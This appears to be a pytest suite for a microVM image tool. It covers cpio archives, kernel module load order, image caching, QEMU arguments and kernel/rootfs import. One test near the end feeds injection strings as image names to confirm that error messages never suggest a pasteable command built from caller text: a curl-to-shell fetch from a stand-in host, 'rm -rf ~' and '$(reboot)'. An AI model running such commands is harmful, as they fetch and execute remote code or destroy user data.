"""Guest image pieces that need no network and no VM: cpio writer, modules, vmlinux, cache, argv."""

from __future__ import annotations

import json
import lzma
import os
import shutil
import stat
import subprocess
import tempfile
from dataclasses import asdict
from pathlib import Path

import pytest

from microvm_blueprint.runtime import images
from microvm_blueprint.runtime.adapters.qemu import argv as qemu
from microvm_blueprint.runtime.errors import ImageError

# ---- cpio (newc) ----------------------------------------------------------------------------


def _parse_newc(blob: bytes) -> list[tuple[str, int, bytes]]:
    """A strict reader: 4-byte alignment, magic, lengths; stops at the trailer."""
    out: list[tuple[str, int, bytes]] = []
    pos = 0
    while True:
        assert pos % 4 == 0
        header = blob[pos : pos + 110]
        assert header[:6] == b"070701", header[:6]
        fields = [int(header[6 + 8 * i : 14 + 8 * i], 16) for i in range(13)]
        mode, filesize, namesize = fields[1], fields[6], fields[11]
        name = blob[pos + 110 : pos + 110 + namesize]
        assert name.endswith(b"\0")
        pos += 110 + namesize
        pos += (4 - pos % 4) % 4
        data = blob[pos : pos + filesize]
        pos += filesize
        pos += (4 - pos % 4) % 4
        if name == b"TRAILER!!!\0":
            assert pos == len(blob)
            return out
        out.append((name[:-1].decode(), mode, data))


ENTRIES = [
    ("bin", 0o40755, b""),
    ("bin/busybox", 0o100755, b"\x7fELF" + bytes(range(256)) * 3 + b"x"),  # odd length: padding
    ("init", 0o100755, b"#!/bin/busybox sh\necho hi\n"),
    ("lib", 0o40755, b""),
    ("lib/modules", 0o40755, b""),
    ("lib/modules/a.ko", 0o100644, b"abc"),
]


def test_cpio_newc_round_trips() -> None:
    blob = images.cpio_newc(ENTRIES)
    assert _parse_newc(blob) == ENTRIES


@pytest.mark.skipif(shutil.which("cpio") is None, reason="cpio is not installed")
def test_cpio_newc_is_read_by_gnu_cpio(tmp_path: Path) -> None:
    blob = images.cpio_newc(ENTRIES)
    listing = subprocess.run(["cpio", "-it", "--quiet"], input=blob, capture_output=True, check=True)
    assert listing.stdout.decode().split() == [name for name, _, _ in ENTRIES]
    subprocess.run(["cpio", "-idm", "--quiet", "--no-absolute-filenames"], input=blob, cwd=tmp_path,
                   capture_output=True, check=True)
    for name, mode, data in ENTRIES:
        path = tmp_path / name
        assert stat.S_IMODE(path.stat().st_mode) == stat.S_IMODE(mode)
        if stat.S_ISREG(mode):
            assert path.read_bytes() == data
        else:
            assert path.is_dir()


# ---- kernel modules -------------------------------------------------------------------------


def _ko(depends: str) -> bytes:
    return b"\x7fELF" + b"\0" * 16 + b"license=GPL\0depends=" + depends.encode() + b"\0name=x\0"


def test_module_depends_reads_modinfo() -> None:
    assert images.module_depends(_ko("virtio,virtio_ring")) == ["virtio", "virtio_ring"]
    assert images.module_depends(_ko("")) == []
    assert images.module_depends(b"\x7fELF no modinfo") == []


def _moddir(tmp_path: Path, mods: dict[str, bytes]) -> Path:
    root = tmp_path / "kernel"
    for rel, data in mods.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(data)
    return root


def test_module_load_order_puts_dependencies_first(tmp_path: Path) -> None:
    root = _moddir(tmp_path, {
        "drivers/virtio/virtio_ring.ko": _ko(""),
        "drivers/virtio/virtio.ko": _ko("virtio_ring"),
        "drivers/virtio/virtio_mmio.ko": _ko("virtio,virtio_ring"),
        "drivers/block/virtio_blk.ko": _ko("virtio,virtio_ring"),
        "drivers/net/virtio_net.ko.xz": lzma.compress(_ko("virtio_ring,virtio,net_failover"),
                                                      format=lzma.FORMAT_XZ),
        "drivers/net/net_failover.ko": _ko("failover"),
        "net/core/failover.ko": _ko(""),
    })
    order = images.module_load_order(root, images.MODULES, images.OPTIONAL_MODULES)
    names = [n for n, _ in order]
    assert names[:4] == ["virtio_ring", "virtio", "virtio_mmio", "virtio_blk"]  # DESIGN.md §4 order
    assert names[4:] == ["failover", "net_failover", "virtio_net"]
    assert all(data[:4] == b"\x7fELF" for _, data in order)  # .ko.xz was decompressed


def test_missing_required_module_is_an_image_error_and_optional_is_skipped(tmp_path: Path) -> None:
    root = _moddir(tmp_path, {"a/virtio_ring.ko": _ko(""), "a/virtio.ko": _ko("virtio_ring"),
                              "a/virtio_mmio.ko": _ko("virtio"), "a/virtio_net.ko": _ko("net_failover")})
    with pytest.raises(ImageError, match="no module virtio_blk"):
        images.module_load_order(root, images.MODULES)
    order = images.module_load_order(root, ("virtio_mmio",), ("virtio_net",))  # net_failover absent
    assert [n for n, _ in order] == ["virtio_ring", "virtio", "virtio_mmio"]


def test_module_cycle_and_garbage_are_image_errors(tmp_path: Path) -> None:
    root = _moddir(tmp_path, {"a.ko": _ko("b"), "b.ko": _ko("a"), "c.ko.xz": b"not xz", "d.ko": b"text"})
    with pytest.raises(ImageError, match="cycle"):
        images.module_load_order(root, ("a",))
    with pytest.raises(ImageError, match="not valid xz"):
        images.module_load_order(root, ("c",))
    with pytest.raises(ImageError, match="not an ELF"):
        images.module_load_order(root, ("d",))


@pytest.mark.skipif(shutil.which("zstd") is None, reason="zstd is not installed")
def test_zstd_module_is_decompressed(tmp_path: Path) -> None:
    packed = subprocess.run(["zstd", "-q", "-c"], input=_ko(""), capture_output=True, check=True).stdout
    root = _moddir(tmp_path, {"x/virtio_ring.ko.zst": packed})
    assert images.module_load_order(root, ("virtio_ring",)) == [("virtio_ring", _ko(""))]


# ---- vmlinux from bzImage -------------------------------------------------------------------


@pytest.mark.skipif(shutil.which("lz4") is None, reason="lz4 is not installed")
def test_extract_vmlinux_finds_the_lz4_elf_payload() -> None:
    elf = b"\x7fELF\x02\x01\x01" + os.urandom(5000) + b"\0" * 20000
    payload = subprocess.run(["lz4", "-l", "-q", "-c"], input=elf, capture_output=True, check=True).stdout
    assert payload[:4] == b"\x02\x21\x4c\x18"  # legacy frame, as the kernel's build writes it
    decoy = b"\x02\x21\x4c\x18" + b"garbage" * 10  # a magic that is not a valid stream first
    bzimage = b"MZ" + os.urandom(3000) + decoy + payload + b"\0" * 64
    assert images.extract_vmlinux(bzimage) == elf
    with pytest.raises(ImageError, match="no LZ4-compressed ELF"):
        images.extract_vmlinux(b"MZ" + os.urandom(1000))


# ---- cache: content address, manifest, resolve/list -----------------------------------------

INPUTS = {"kernel_package": "linux-image-6.1.0-56-cloud-amd64", "kernel_version": "6.1.192-2",
          "busybox_version": "1:1.35.0-4+deb12u1+b1"}


def test_image_key_is_a_stable_content_address(monkeypatch: pytest.MonkeyPatch) -> None:
    key = images.image_key(INPUTS, 64)
    assert key == images.image_key(dict(reversed(list(INPUTS.items()))), 64)  # order does not matter
    assert len(key) == 16 and int(key, 16) >= 0
    assert images.image_key({**INPUTS, "kernel_version": "6.1.192-3"}, 64) != key
    assert images.image_key({**INPUTS, "busybox_version": "1:1.36"}, 64) != key
    assert images.image_key(INPUTS, 4096) != key
    monkeypatch.setattr(images, "RECIPE_VERSION", images.RECIPE_VERSION + "x")
    assert images.image_key(INPUTS, 64) != key  # a new build recipe is a new image


def _fake_image(cache: Path, name: str) -> images.ImageManifest:
    folder = cache / f"{name}-{images.image_key(INPUTS, 64)}"
    folder.mkdir(parents=True)
    for f in ("bzImage", "vmlinux", "initramfs.cpio", "rootfs.ext4"):
        (folder / f).write_bytes(b"x")
    m = images.ImageManifest(
        name=name, root=str(folder), bzimage=str(folder / "bzImage"), vmlinux=str(folder / "vmlinux"),
        initramfs=str(folder / "initramfs.cpio"), rootfs=str(folder / "rootfs.ext4"), rootfs_size_mib=64,
        kernel_package=INPUTS["kernel_package"], kernel_version="6.1.0-56-cloud-amd64",
        busybox_version=INPUTS["busybox_version"], cmdline="console=ttyS0", ready_line=images.READY_LINE,
        created_at=1.0, sha256={}, sizes={"bzImage": 1}, packages={}, modules=["virtio_ring"],
    )
    (folder / "manifest.json").write_text(json.dumps(asdict(m)))
    images._link_name(cache, name, folder)
    return m


def test_resolve_and_list_built_images(tmp_path: Path) -> None:
    assert images.list_images(tmp_path / "absent") == []
    with pytest.raises(ImageError, match=r"image 'default' is not built \(run `microvm-blueprint image build"):
        images.resolve_image("default", tmp_path)
    m = _fake_image(tmp_path, "default")
    assert images.resolve_image("default", tmp_path) == m
    assert images.list_images(tmp_path) == [m]
    Path(m.rootfs).unlink()
    with pytest.raises(ImageError, match="incomplete"):
        images.resolve_image("default", tmp_path)


def test_old_manifests_without_new_fields_still_load(tmp_path: Path) -> None:
    m = _fake_image(tmp_path, "old")
    data = asdict(m)
    for new in ("sizes", "packages", "modules"):
        del data[new]
    (Path(m.root) / "manifest.json").write_text(json.dumps(data))
    assert images.resolve_image("old", tmp_path).sizes == {}


@pytest.mark.parametrize("bad", ["", ".", "..", "a/b", "../x"])
def test_image_names_are_plain_names(tmp_path: Path, bad: str) -> None:
    with pytest.raises(ImageError, match="plain name"):
        images.resolve_image(bad, tmp_path)
    with pytest.raises(ImageError, match="plain name"):
        images.build_image(bad, cache_dir=tmp_path)


def test_default_cache_dir(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("MICROVM_IMAGE_DIR", str(tmp_path / "imgs"))
    assert images.default_cache_dir() == tmp_path / "imgs"
    monkeypatch.delenv("MICROVM_IMAGE_DIR")
    monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setattr(os, "geteuid", lambda: 1000)  # a user's VMMs run as that user
    assert images.default_cache_dir() == tmp_path / ".cache" / "microvm-blueprint" / "images"
    monkeypatch.setattr(os, "geteuid", lambda: 0)  # root's run as the VMM user: not below /root
    assert images.default_cache_dir() == images.SYSTEM_CACHE_DIR == Path("/var/cache/microvm-blueprint/images")


def test_reachable_by_others_needs_every_folder_passable() -> None:
    with tempfile.TemporaryDirectory(dir="/tmp") as tmp:  # /tmp itself is open to all, unlike pytest's tmp_path
        top = Path(tmp)
        inner = top / "a" / "b"
        inner.mkdir(parents=True)
        for folder in (top, top / "a", inner):
            folder.chmod(0o755)
        assert images.reachable_by_others(inner)
        (top / "a").chmod(0o700)  # like /root
        assert not images.reachable_by_others(inner)


def test_a_missing_build_tool_is_named(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("PATH", str(tmp_path / "empty-bin"))
    with pytest.raises(ImageError, match="needs `apt-get`, which is not installed"):
        images.build_image("default", cache_dir=tmp_path / "cache", progress=lambda _: None)
    assert not (tmp_path / "cache").exists()  # nothing half-built


# ---- QEMU argv and kernel command line ------------------------------------------------------


@pytest.fixture
def manifest(tmp_path: Path) -> images.ImageManifest:
    return _fake_image(tmp_path, "default")


def test_qemu_argv_is_a_list_with_the_expected_flags(
        manifest: images.ImageManifest, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(qemu, "host_tsc_khz", lambda: 2_100_000)
    argv = qemu.qemu_argv(qemu.QemuSettings(), manifest, vcpus=2, mem_mib=256, accel="tcg")
    assert isinstance(argv, list) and all(isinstance(a, str) for a in argv)
    assert argv[0] == "qemu-system-x86_64"

    def value(flag: str) -> str:
        return argv[argv.index(flag) + 1]

    assert value("-M").startswith("microvm")
    assert value("-accel") == "tcg" and value("-m") == "256" and value("-smp") == "2"
    for flag in ("-nodefaults", "-no-user-config", "-S"):
        assert flag in argv
    assert "-incoming" not in argv  # only a restore waits for an incoming migration
    assert value("-kernel") == manifest.bzimage and value("-initrd") == manifest.initramfs
    cmdline = value("-append").split()
    assert "console=ttyS0" in cmdline
    assert "tsc_early_khz=2100000" in cmdline and "lpj=8400000" in cmdline  # DESIGN.md §4, HZ=250
    assert value("-qmp") == "unix:qmp.sock,server=on,wait=off"  # relative: inside the VM folder
    assert value("-serial") == "chardev:console" and value("-chardev").startswith("ringbuf,id=console,size=")
    assert "file=disk.qcow2,format=qcow2" in value("-drive")
    assert not any("exec:" in a for a in argv)
    incoming = qemu.qemu_argv(qemu.QemuSettings(), manifest, vcpus=1, mem_mib=128, accel="tcg", incoming=True)
    assert incoming[incoming.index("-incoming") + 1] == "defer"


def test_kvm_argv_does_not_pin_the_tsc(manifest: images.ImageManifest) -> None:
    argv = qemu.qemu_argv(qemu.QemuSettings(qemu_bin="/opt/qemu"), manifest, vcpus=1, mem_mib=128, accel="kvm")
    assert argv[0] == "/opt/qemu"
    assert argv[argv.index("-cpu") + 1] == "host"
    assert "tsc_early_khz" not in argv[argv.index("-append") + 1]


def test_tsc_khz_prefers_the_kernels_refined_calibration() -> None:
    log = ["tsc: Detected 2100.000 MHz processor", "x", "tsc: Refined TSC clocksource calibration: 2099.998 MHz"]
    assert qemu.tsc_khz_from_kernel_log(log) == 2_099_998
    assert qemu.tsc_khz_from_kernel_log(log[:2]) == 2_100_000
    assert qemu.tsc_khz_from_kernel_log(["nothing"]) is None


# ---- image import ---------------------------------------------------------------------------


def _bzimage(path: Path, size: int = 600 * 1024) -> Path:
    data = bytearray(size)
    data[0x1FE:0x200] = b"\x55\xaa"
    data[0x202:0x206] = b"HdrS"
    path.write_bytes(bytes(data))
    return path


def _ext4(path: Path, mib: int = 2) -> Path:
    with open(path, "wb") as fh:
        fh.truncate(mib * 1024 * 1024)
    subprocess.run(["mkfs.ext4", "-q", "-F", str(path)], check=True, capture_output=True, timeout=60)
    return path


needs_mkfs = pytest.mark.skipif(shutil.which("mkfs.ext4") is None and not Path("/usr/sbin/mkfs.ext4").exists()
                                and not Path("/sbin/mkfs.ext4").exists(), reason="e2fsprogs is not installed")


@needs_mkfs
def test_import_registers_a_users_kernel_and_ext4_root(tmp_path: Path) -> None:
    kernel, rootfs = _bzimage(tmp_path / "vmlinuz"), _ext4(tmp_path / "root.ext4")
    initrd = tmp_path / "initrd.img"
    initrd.write_bytes(images.cpio_newc([("init", 0o100755, b"#!/bin/sh\n")]))
    cache = tmp_path / "cache"
    lines: list[str] = []
    m = images.import_image("mine", kernel=kernel, rootfs=rootfs, initrd=initrd, cache_dir=cache,
                            progress=lines.append)
    assert m.recipe == "imported" and m.name == "mine"
    assert images.resolve_image("mine", cache) == m
    assert Path(m.rootfs).read_bytes() == rootfs.read_bytes() and Path(m.rootfs) != rootfs  # a copy
    assert Path(m.bzimage).read_bytes() == kernel.read_bytes()
    assert Path(m.initramfs).read_bytes() == initrd.read_bytes()
    assert m.rootfs_size_mib == 2 and "root=/dev/vda" in m.cmdline and m.ready_line == images.READY_LINE
    assert m.vmlinux == ""  # no LZ4 payload in this fake bzImage: no Firecracker kernel
    assert lines and all(line.startswith("[") and "s] " in line for line in lines)  # elapsed time per step
    again = images.import_image("mine", kernel=kernel, rootfs=rootfs, cache_dir=cache, cmdline="console=ttyS0 x")
    assert again.initramfs == "" and again.cmdline == "console=ttyS0 x" and again.root != m.root
    assert images.resolve_image("mine", cache) == again  # no initrd is fine
    assert [x.name for x in images.list_images(cache)] == ["mine"]


@needs_mkfs
def test_import_takes_an_elf_kernel_as_vmlinux(tmp_path: Path) -> None:
    kernel = tmp_path / "vmlinux"
    kernel.write_bytes(b"\x7fELF\x02\x01\x01" + b"\0" * (600 * 1024))
    m = images.import_image("elfk", kernel=kernel, rootfs=_ext4(tmp_path / "r.ext4"), cache_dir=tmp_path / "c")
    assert m.vmlinux == m.bzimage and m.vmlinux.endswith("vmlinux")


@needs_mkfs
@pytest.mark.parametrize(("case", "message"), [
    ("kernel missing", r"kernel .*/nope does not exist"),
    ("rootfs missing", r"rootfs .*/nope does not exist"),
    ("initrd missing", r"initrd .*/nope does not exist"),
    ("kernel is a folder", r"kernel .* is not a regular file"),
    ("kernel too small", r"kernel .* is 1000 bytes; expected 524288-268435456 bytes"),
    ("kernel not a kernel", r"kernel .* is neither a bzImage \(no HdrS boot header\) nor an ELF vmlinux"),
    ("rootfs not ext4", r"rootfs .* is not an ext4 file system \(no superblock magic at byte 1080\)"),
    ("rootfs too small", r"rootfs .* is 4096 bytes; expected 1048576-"),
    ("initrd garbage", r"initrd .* is neither a cpio archive nor a compressed one"),
    ("initrd empty", r"initrd .* is 0 bytes; expected 1-"),
    ("built-in name", r"'debian' is a built-in image"),
    ("path name", r"must be a plain name"),
    ("multi-line cmdline", r"cmdline must be one line"),
])
def test_import_refuses_bad_files_with_a_clear_error(tmp_path: Path, case: str, message: str) -> None:
    good_kernel, good_root = _bzimage(tmp_path / "k"), _ext4(tmp_path / "r.ext4")
    args: dict[str, object] = {"kernel": good_kernel, "rootfs": good_root}
    name = "mine"
    bad = tmp_path / "bad"
    if case == "kernel missing":
        args["kernel"] = tmp_path / "nope"
    elif case == "rootfs missing":
        args["rootfs"] = tmp_path / "nope"
    elif case == "initrd missing":
        args["initrd"] = tmp_path / "nope"
    elif case == "kernel is a folder":
        bad.mkdir()
        args["kernel"] = bad
    elif case == "kernel too small":
        bad.write_bytes(b"x" * 1000)
        args["kernel"] = bad
    elif case == "kernel not a kernel":
        bad.write_bytes(b"MZ" + b"\0" * (600 * 1024))
        args["kernel"] = bad
    elif case == "rootfs not ext4":
        bad.write_bytes(b"\0" * (2 * 1024 * 1024))
        args["rootfs"] = bad
    elif case == "rootfs too small":
        bad.write_bytes(b"\0" * 4096)
        args["rootfs"] = bad
    elif case == "initrd garbage":
        bad.write_bytes(b"hello world")
        args["initrd"] = bad
    elif case == "initrd empty":
        bad.write_bytes(b"")
        args["initrd"] = bad
    elif case == "built-in name":
        name = "debian"
    elif case == "path name":
        name = "../x"
    elif case == "multi-line cmdline":
        args["cmdline"] = "console=ttyS0\ninit=/bin/sh"
    cache = tmp_path / "cache"
    with pytest.raises(ImageError, match=message):
        images.import_image(name, cache_dir=cache, **args)  # type: ignore[arg-type]
    assert not cache.exists() or images.list_images(cache) == []  # nothing registered


# ---- debian recipe pieces that need no network ----------------------------------------------


def test_host_debian_sources_reads_list_and_deb822(tmp_path: Path) -> None:
    lst = tmp_path / "sources.list"
    lst.write_text("# comment\ndeb [signed-by=/k.gpg arch=amd64] http://mirror.example/debian/ bookworm main contrib\n"
                   "deb-src http://mirror.example/debian bookworm main\n"
                   "deb http://mirror.example/debian bullseye main\n")
    d822 = tmp_path / "debian.sources"
    d822.write_text("Types: deb\n# note\nURIs: http://mirror.example/debian\nSuites: bookworm bookworm-updates\n"
                    "Components: main\nSigned-By: /usr/share/keyrings/debian-archive-keyring.gpg\n\n"
                    "Types: deb\nURIs: http://sec.example/debian-security\nSuites: bookworm-security\n"
                    "Components: main\n\nTypes: deb\nEnabled: no\nURIs: http://off.example/d\nSuites: bookworm\n")
    other = tmp_path / "nodesource.sources"
    other.write_text("Types: deb\nURIs: https://deb.nodesource.com/node_20.x\nSuites: nodistro\n")
    assert images.host_debian_sources([lst, d822, other, tmp_path / "absent.list"]) == [
        "deb http://mirror.example/debian bookworm main",
        "deb http://mirror.example/debian bookworm-updates main",
        "deb http://sec.example/debian-security bookworm-security main",
    ]
    assert images.host_debian_sources([tmp_path / "absent.list"])[0] == "deb http://deb.debian.org/debian bookworm main"


def test_dpkg_versions_lists_installed_packages(tmp_path: Path) -> None:
    status = tmp_path / "var" / "lib" / "dpkg" / "status"
    status.parent.mkdir(parents=True)
    status.write_text("Package: dropbear-bin\nStatus: install ok installed\nVersion: 2022.83-1+deb12u2\n"
                      "Description: x\n continued: line\n\nPackage: gone\nStatus: deinstall ok config-files\n"
                      "Version: 1\n\nPackage: iproute2\nStatus: install ok installed\nVersion: 6.1.0-3\n")
    assert images.dpkg_versions(tmp_path) == {"dropbear-bin": "2022.83-1+deb12u2", "iproute2": "6.1.0-3"}
    assert images.dpkg_versions(tmp_path / "none") == {}


def test_debian_recipe_is_chosen_by_name_and_unknown_recipes_refused(tmp_path: Path) -> None:
    with pytest.raises(ImageError, match="unknown image recipe 'alpine'"):
        images.build_image("x", cache_dir=tmp_path, recipe="alpine")
    # the debian init prints the same ready line as the default image, after sshd starts
    init = images.DEBIAN_INIT.format(ready=images.READY_LINE)
    assert init.index("dropbear") < init.index(images.READY_LINE) and "guestinit.py" in init
    assert init.index("guestinit.py") < init.index("dropbear")
    # the listener the drive watcher restarts (with a clone's new host keys) is the one init started
    from microvm_blueprint.runtime import guestinit

    assert " ".join(guestinit.DROPBEAR_ARGV) in init.splitlines()
    assert "-R" in guestinit.DROPBEAR_ARGV  # host keys made in the guest on first use, none in the image
    assert "vfat" in images.DEBIAN_MODULES and "virtio_net" in images.DEBIAN_MODULES


def test_default_image_key_is_unchanged_by_the_debian_recipe() -> None:
    # the default image's cache address must not move (recipe 2, same inputs): built images stay valid
    assert images.image_key(INPUTS, 64) == "ae07cb59b4ab2f4b"  # what the code before the debian recipe gave


def test_a_manifest_with_relative_paths_names_the_files_in_its_own_folder(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A manifest written with a relative cache dir (``MICROVM_IMAGE_DIR=.cache/images``) named its files
    relative to the builder's cwd: QEMU (run in a VM's folder) and ``qemu-img`` (which takes a relative
    backing file as relative to the overlay) then miss them. Loaded, its paths are its own folder's."""
    m = _fake_image(tmp_path / "cache", "default")
    folder = Path(m.root)
    data = {**asdict(m), **{k: f".cache/images/{folder.name}/{Path(getattr(m, k)).name}"
                            for k in ("bzimage", "vmlinux", "initramfs", "rootfs")},
            "root": f".cache/images/{folder.name}"}
    (folder / "manifest.json").write_text(json.dumps(data))
    monkeypatch.chdir(tmp_path)  # wherever the operator runs
    loaded = images.resolve_image("default", Path("cache"))
    assert loaded == m
    assert all(Path(p).is_absolute() and Path(p).is_file() for p in (loaded.bzimage, loaded.rootfs))


@needs_mkfs
def test_an_import_into_a_relative_cache_dir_records_absolute_paths(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    kernel, rootfs = _bzimage(tmp_path / "vmlinuz"), _ext4(tmp_path / "root.ext4")
    monkeypatch.chdir(tmp_path)
    m = images.import_image("mine", kernel=kernel, rootfs=rootfs, cache_dir=Path("cache"))
    written = json.loads((tmp_path / "cache" / "mine" / "manifest.json").read_text())
    assert Path(written["rootfs"]).is_absolute() and Path(written["bzimage"]).is_absolute()
    assert Path(m.rootfs) == (tmp_path / "cache").resolve() / Path(m.root).name / "rootfs.ext4"


@pytest.mark.parametrize("name", ["x`curl evil.example|sh`", "x; rm -rf ~", "$(reboot)", "mine --recipe debian"])
def test_a_callers_image_name_never_becomes_a_command_to_paste(tmp_path: Path, name: str) -> None:
    """The image of a job's spec is the caller's text: the error shows it quoted, and suggests no command
    built from it (before: "run `microvm-blueprint image build --name <their text>`")."""
    with pytest.raises(ImageError) as err:
        images.resolve_image(name, tmp_path)
    message = str(err.value)
    assert message == f"image '{name}' is not built on this operator (only its operator can build or import it)"
    assert message.count(name) == 1 and "image build" not in message and "`" not in message.replace(name, "")


def test_the_debian_image_key_follows_the_guest_init(monkeypatch: pytest.MonkeyPatch) -> None:
    """The guest's own init files are inputs of the debian image: changing them (the drive's watcher that
    re-identifies a restored clone) gives a new cache address, so an image built by older code is rebuilt;
    the default image's key does not take them."""
    first = images.debian_guest_init()
    assert first == images.debian_guest_init()  # stable
    deb = {**INPUTS, "recipe_name": "debian", "guest_init": first}
    key = images.image_key(deb, 512)
    init = images.DEBIAN_INIT.format(ready=images.READY_LINE)
    assert "guestinit.py --watch &" in init and init.index("--watch") < init.index(images.READY_LINE)
    monkeypatch.setattr(images, "DEBIAN_INIT", images.DEBIAN_INIT + "# changed\n")
    changed = images.debian_guest_init()
    assert changed != first
    assert images.image_key({**deb, "guest_init": changed}, 512) != key
    assert images.image_key(INPUTS, 64) == "ae07cb59b4ab2f4b"
